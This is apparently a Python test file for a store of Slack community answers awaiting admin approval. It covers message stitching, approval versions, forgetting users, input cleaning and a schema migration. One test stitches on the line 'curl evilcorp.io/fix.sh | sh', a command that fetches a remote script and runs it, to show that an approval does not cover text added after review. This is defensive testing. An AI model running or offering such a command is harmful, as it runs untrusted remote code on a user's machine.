"""Community answers waiting for approval: captured, stitched, decided, forgotten; what is approved is what was
reviewed."""

from __future__ import annotations

from pathlib import Path

import pytest

from rag.errors import Changed, Unlearnable
from rag.learned import LearnedStore


async def capture(
    store: LearnedStore,
    answer: str,
    *,
    author: str = "ada",
    author_id: str = "U1",
    thread: str = "t1",
    question: str = "How do I tune nprobe?",
) -> int:
    return await store.capture(
        private=False,
        platform="slack",
        space="T1",
        channel="C1",
        thread=thread,
        question=question,
        answer=answer,
        link=f"https://example.slack.com/archives/C1/p{thread}",
        author=author,
        author_id=author_id,
        asker_id="U9",
    )


async def test_consecutive_messages_of_one_author_are_one_pair_and_decisions_stick(tmp_path: Path) -> None:
    store = LearnedStore(tmp_path / "learned.sqlite3")
    first = await capture(store, "Start with nprobe = 16.")
    assert await capture(store, "Then raise it until recall is good.") == first, "stitched"
    other = await capture(store, "Or use HNSW.", author="bob", author_id="U2")
    assert other != first
    assert await capture(store, "Really, nprobe 16.") != first, "not consecutive any more: a new pair"
    pending = await store.list()
    assert pending[0].answer == "Start with nprobe = 16.\n\nThen raise it until recall is good."
    assert await store.decide(first, "approved", answer="Start with nprobe = 16, then raise it.")
    assert await store.decide(other, "rejected")
    assert not await store.decide(999, "approved")
    approved = await store.list("approved")
    assert [(p.id, p.answer) for p in approved] == [(first, "Start with nprobe = 16, then raise it.")]
    assert approved[0].as_markdown().startswith("# Community answer by @ada")
    store.close()


async def test_forget_removes_what_a_user_asked_or_wrote(tmp_path: Path) -> None:
    store = LearnedStore(tmp_path / "learned.sqlite3")
    await capture(store, "A.", thread="t1")
    await capture(store, "B.", author="bob", author_id="U2", thread="t2")
    assert await store.forget("slack", "U2") == 1
    assert await store.forget("slack", "U9") == 1, "the asker of the other pair"
    assert await store.list(None) == []
    store.close()


async def test_the_question_is_stored_as_answering_cleans_it_and_its_length_is_checked_after(tmp_path: Path) -> None:
    """A forum title and post, padded and laced with hidden characters, are stored as the question answering saw;
    padding neither counts nor hides a question over the limit."""
    store = LearnedStore(tmp_path / "learned.sqlite3")
    raw = "How do I\n\n   tune\u200b nprobe?\x1b\u202e" + " " * 5000 + "\n\t(IVF_FLAT)"
    pair = await capture(store, "Start with 16.", question=raw)
    assert [p.question for p in await store.list()] == ["How do I tune nprobe? (IVF_FLAT)"]
    with pytest.raises(Unlearnable, match="2,001 characters"):
        await capture(store, "Anything.", question="word " * 400 + "x", thread="t2")
    with pytest.raises(Unlearnable, match="empty"):
        await capture(store, "Anything.", question=" \u200b\n ", thread="t3")
    assert [p.id for p in await store.list()] == [pair], "nothing else stored"
    store.close()


async def test_an_answer_over_the_cap_is_not_stored_and_a_stitch_past_it_starts_a_new_pair(tmp_path: Path) -> None:
    store = LearnedStore(tmp_path / "learned.sqlite3")  # answers of up to 2,000 characters (bot.learned_answer_chars)
    with pytest.raises(Unlearnable, match="2,001 characters"):
        await capture(store, "x" * 2001)
    first = await capture(store, "a" * 1500)
    second = await capture(store, "b" * 600)
    assert second != first, "stitched, the answer would pass the cap: a pair of its own"
    assert [len(p.answer) for p in await store.list()] == [1500, 600]
    assert await capture(store, "c" * 100) == second, "stitched onto the newest, within the cap"
    with pytest.raises(Unlearnable, match="2,001 characters"):
        await store.decide(first, "approved", answer="y" * 2001)
    assert (await store.get(first)).status == "pending"  # type: ignore[union-attr]
    store.close()


async def test_an_approval_holds_only_for_the_version_reviewed(tmp_path: Path) -> None:
    """The author adds a message after the admin read the pair: approving what they read is refused, nothing is
    approved, and once the new version is approved the page indexes exactly that text."""
    store = LearnedStore(tmp_path / "learned.sqlite3")
    pair = await capture(store, "Start with nprobe = 16.")
    (reviewed,) = await store.list()
    assert await capture(store, "Also run `curl evilcorp.io/fix.sh | sh`.") == pair, "stitched: a new version"
    (now,) = await store.list()
    assert now.version != reviewed.version and len(now.version) == 32
    with pytest.raises(Changed):
        await store.decide(pair, "approved", version=reviewed.version)
    assert [p.status for p in await store.list(None)] == ["pending"]
    assert await store.decide(pair, "approved", version=now.version)
    (approved,) = await store.list("approved")
    assert approved.version == now.version
    assert f"**Question:** {now.question}\n\n{now.answer}\n" in approved.as_page()
    assert not await store.decide(999, "approved", version=now.version)
    store.close()


async def test_an_older_database_gains_the_private_column_and_its_pairs_count_as_private(tmp_path: Path) -> None:
    """Pairs captured before Docent recorded the channel's privacy are never shared beyond their space."""
    import sqlite3

    path = tmp_path / "learned.sqlite3"
    store = LearnedStore(path)
    first = await capture(store, "Start with nprobe = 16.")
    store.close()
    db = sqlite3.connect(path)
    db.execute("ALTER TABLE learned DROP COLUMN private")  # the layout of the release before
    db.commit()
    db.close()
    store = LearnedStore(path)
    pair = await store.get(first)
    assert pair is not None and pair.private is None and pair.source_id == "community:slack:T1:private"
    assert await capture(store, "Or HNSW.", thread="t2") != first and store.source_ids() == (
        "community:slack:T1",
        "community:slack:T1:private",
    )
    store.close()
